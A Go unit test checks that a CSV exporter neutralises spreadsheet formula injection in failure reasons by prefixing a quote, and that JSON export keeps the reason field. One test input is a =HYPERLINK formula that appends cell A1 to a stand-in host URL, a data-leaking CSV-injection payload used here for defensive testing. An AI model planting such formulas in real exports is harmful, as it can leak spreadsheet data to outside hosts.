package export

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/fbo-node/fbo/strategy"
	"github.com/fbo-node/fbo/strategy/all"
)

// A reason that begins as a formula is a text to a spreadsheet, and JSON has it as it is.
func TestReasonsAreNoFormulas(t *testing.T) {
	of, err := all.Strategies().Parse("test", []byte("name: a\ngoal: minimize\nparameters: [{name: x, type: float, low: 0, high: 1}]\n"))
	if err != nil {
		t.Fatal(err)
	}
	for reason, want := range map[string]string{
		"out of luck": "out of luck", `=HYPERLINK("http://a.example/?"&A1)`: `'=HYPERLINK("http://a.example/?"&A1)`,
		"+1": "'+1", "-1": "'-1", "@a": "'@a", "\ta": "'\ta", "a=1": "a=1", "": "",
	} {
		trial := strategy.Trial{ID: 1, Design: of.Space.Decode([]float64{0.5}), State: strategy.Failed, Reason: reason}
		var table, document bytes.Buffer
		if err := CSV(&table, of, []strategy.Trial{trial}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&table).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, name := range rows[0] {
			if name == "reason" && rows[1][i] != want {
				t.Errorf("%q is written as %q, expected %q", reason, rows[1][i], want)
			}
		}
		if err := JSON(&document, of, []strategy.Trial{trial}, nil); err != nil || reason != "" && !bytes.Contains(document.Bytes(), []byte(`"reason"`)) {
			t.Errorf("JSON: %v, %s", err, document.Bytes())
		}
	}
}
